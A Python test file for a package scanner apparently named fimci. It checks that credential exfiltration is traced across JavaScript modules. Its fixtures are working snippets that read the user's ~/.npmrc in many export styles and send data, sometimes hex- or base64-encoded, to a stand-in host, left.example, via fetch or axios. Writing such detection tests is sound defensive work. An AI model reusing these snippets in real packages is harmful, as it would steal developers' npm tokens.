"""Values that go from a function of one file to one of another, and what that amounts to."""

from __future__ import annotations

import pytest

from fimci import readers, sides
from fimci.look import take
from fimci.model import Capability, Record, Unread
from fimci.reach import settled
from fimci.snapshot import Entry

MANIFEST = '{"name": "a", "version": "1.0.0", "main": "index.js"}'
READ = 'fs.readFileSync(os.homedir() + "/.npmrc", "utf8")'
#: Gives a secret once it is called, exported in the ways that people export.
GRAB = {
    "member": f"exports.grab = () => {READ};",
    "named": f"function grab() {{ return {READ}; }}\nmodule.exports = {{ grab }};",
    "renamed": f"function read() {{ return {READ}; }}\nmodule.exports = {{ grab: read }};",
    "asynchronous": f"exports.grab = async function () {{ const text = {READ}; return text; }};",
    "a promise": f"exports.grab = () => new Promise((done) => done({READ}));",
    "helped": f"function read() {{ return {READ}; }}\nexports.grab = () => ({{ text: read() }});",
    "method": f"class Box {{ grab() {{ return {READ}; }} }}\nmodule.exports = new Box();",
    "static": f"class Box {{ static grab() {{ return {READ}; }} }}\nmodule.exports = Box;",
    "module": f"export function grab() {{ return {READ}; }}",
    "arrow of a module": f"export const grab = async () => {READ};",
    "listed": f"function read() {{ return {READ}; }}\nexport {{ read as grab }};",
}
ONLY = {
    "function": f"module.exports = function () {{ return {READ}; }};",
    "arrow": f"module.exports = () => {READ};",
    "default": f"export default function grab() {{ return {READ}; }}",
    "default of a name": f"const read = async () => {READ};\nexport default read;",
}
SEND = {
    "member": 'exports.send = (x) => fetch("https://left.example/", { method: "POST", body: x });',
    "named": (
        'async function send(x) { await fetch("https://left.example/", { body: JSON.stringify({ x }) }); }\n'
        "module.exports = { send };"
    ),
    "helped": (
        'const post = (x) => fetch("https://left.example/", { body: x });\nexports.send = (y) => post(btoa(y));'
    ),
    "module": "export async function send(x) { await fetch(`https://left.example/?${x}`); }",
    "axios": (
        'import axios from "axios";\nexport const send = (x) => axios.post("https://left.example/", { x });'
    ),
}
#: Passes it on, in the ways that people write it.
PASS = {
    "at once": 'require("./send").send(require("./grab").grab());',
    "taken out": ('const { grab } = require("./grab");\nconst { send } = require("./send");\nsend(grab());'),
    "whole": 'const from = require("./grab"), to = require("./send");\nto.send(from.grab());',
    "a variable": (
        'const { grab } = require("./grab");\nconst { send } = require("./send");\n'
        "async function main() { const k = await grab(); send(k); }\nmain();"
    ),
    "encoded": (
        'import { grab } from "./grab.js";\nimport { send as post } from "./send.js";\n'
        "post(Buffer.from(JSON.stringify({ k: grab() })).toString('hex'));"
    ),
    "namespaces": (
        'import * as from from "./grab.js";\nimport * as to from "./send.js";\nto.send(await from.grab());'
    ),
    "compiled": (
        'const grab_1 = __importStar(require("./grab"));\nconst send_1 = require("./send");\n'
        "(0, send_1.send)((0, grab_1.grab)());"
    ),
    "a promise": (
        'const { grab } = require("./grab");\nconst { send } = require("./send");\n'
        "Promise.resolve(grab()).then((k) => send(k));"
    ),
    "handed": (
        'const { grab } = require("./grab");\nconst { send } = require("./send");\ngrab().then(send);'
    ),
    "loaded late": (
        'async function main() { const { grab } = await import("./grab.js");\n'
        '  const lib = await import("./send.js"); lib.send(grab()); }\nmain();'
    ),
    "later": (
        'const { grab } = require("./grab");\nconst { send } = require("./send");\n'
        "exports.run = () => { const k = grab(); return send(k); };"
    ),
}
PASS_ONLY = {
    "at once": 'const { send } = require("./send");\nsend(require("./grab")());',
    "by a name": 'const read = require("./grab");\nconst { send } = require("./send");\nsend(read());',
    "imported": 'import read from "./grab.js";\nimport { send } from "./send.js";\nsend(await read());',
}
HEAD = {
    True: 'import fs from "fs";\nimport os from "os";\n',
    False: 'const fs = require("fs"), os = require("os");\n',
}


def entry(path: str, text: str) -> Entry:
    return Entry(path=path, read=lambda: iter([text.encode()]))


def records(files: dict[str, str]) -> list[Record]:
    entries = [entry(path, text) for path, text in files.items()]
    found: list[Record] = take(entries, sides.recipe(code=True), readers.ALL)
    return list(settled(found, project=False))


def told(files: dict[str, str]) -> set[tuple[str, str, str]]:
    names = {"download-and-run", "exfiltration", "encoded-payload"}
    return {
        (r.path, r.name, r.subject) for r in records(files) if isinstance(r, Capability) and r.name in names
    }


def package(index: str, grab: str, send: str = SEND["member"]) -> dict[str, str]:
    head = HEAD["export " in grab]
    return {"package.json": MANIFEST, "index.js": index, "grab.js": head + grab, "send.js": send}


CHAIN = {("send.js", "exfiltration", "grab.js -> left.example")}


@pytest.mark.parametrize("passed", PASS.values(), ids=PASS)
@pytest.mark.parametrize("grab", GRAB.values(), ids=GRAB)
def test_a_secret_is_followed_from_file_to_file(grab: str, passed: str) -> None:
    assert told(package(passed, grab)) == CHAIN


@pytest.mark.parametrize("passed", PASS_ONLY.values(), ids=PASS_ONLY)
@pytest.mark.parametrize("grab", ONLY.values(), ids=ONLY)
def test_so_it_is_from_the_one_function_of_a_file(grab: str, passed: str) -> None:
    assert told(package(passed, grab)) == CHAIN


@pytest.mark.parametrize("send", SEND.values(), ids=SEND)
def test_whatever_sends_it(send: str) -> None:
    assert told(package(PASS["taken out"], GRAB["member"], send)) == CHAIN
